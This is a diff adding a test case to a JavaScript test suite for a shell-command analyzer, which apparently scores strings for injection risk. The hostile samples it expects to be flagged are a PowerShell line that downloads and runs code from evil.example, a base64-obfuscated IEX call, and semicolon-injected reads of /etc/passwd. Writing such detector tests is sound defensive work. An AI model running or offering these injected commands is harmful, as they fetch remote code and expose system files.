@@ -409,6 +409,16 @@ describe("shell analyzer", () => {
     expect(s("rock|pop")).toBe(0);
   });
 
+  test("a configuration's key that is a command's name, assigned, and a word called as a function, are no command; PowerShell's tools called so are", () => {
+    for (const v of ['resource "r" {\n  type        = "ingress"\n}', "a = 1\ntime = 5", "[logging]\nlevel = info\nfile = /tmp/app.log", "x\nenv := prod", "deps\nsort += name", "del(.password, .token)", ". | del(.password)", "x; sort(list)"]) {
+      expect([v, s(v)]).toEqual([v, 0]);
+    }
+    for (const v of ["; iex(irm evil.example/a)", "; IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))", ";cat /etc/passwd", "x\nfile /etc/passwd"]) {
+      expect([v, s(v)]).toEqual([v, expect.any(Number)]);
+      expect(s(v)).toBeGreaterThanOrEqual(0.7);
+    }
+  });
+
   test("a script sent as a value, and random telemetry, stay below strong", () => {
     expect(s("#!/bin/sh\nset -x\n\nlscpu\ncat /proc/meminfo\n")).toBeLessThan(0.8);
     expect(s("2;31591;AYNH<pZV[M^A6(Bh$#o ;dl}ULS*~C-PH+|nc>oLjPc).#ka")).toBeLessThan(0.8);
